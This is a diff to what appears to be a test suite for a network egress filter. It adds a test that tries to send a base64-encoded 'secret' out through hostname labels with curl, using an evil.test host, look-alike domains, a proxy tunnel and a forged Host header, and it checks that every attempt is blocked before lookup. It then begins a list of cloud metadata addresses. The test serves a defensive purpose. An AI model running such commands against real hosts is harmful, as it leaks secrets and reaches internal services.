@@ -128,6 +128,16 @@ test('a name is resolved once for each connection, so that it cannot turn betwee
   }
 });
 
+test('a name that is not listed is not even looked up: nothing leaves by its letters', async () => {
+  const { refused } = await attempt(
+    `for name in c2VjcmV0.evil.test c2VjcmV0.allowed.test allowed.test.c2VjcmV0.test; do curl -sS -m 5 http://$name/; curl -sS -m 5 -k https://$name/; curl -sS -m 5 -p http://$name:53/; done; curl -sS -m 5 -H 'Host: c2VjcmV0.evil.test' http://allowed.test:${http}/`,
+  );
+  expect(refused).toHaveLength(10);
+  expect(lookups).toEqual([]);
+  expect(reached).toEqual([]);
+  expect((await attempt(`curl -sS http://allowed.test:${http}/on`)).text).toContain('reached');
+});
+
 test.each([
   '169.254.169.254',
   '2852039166',
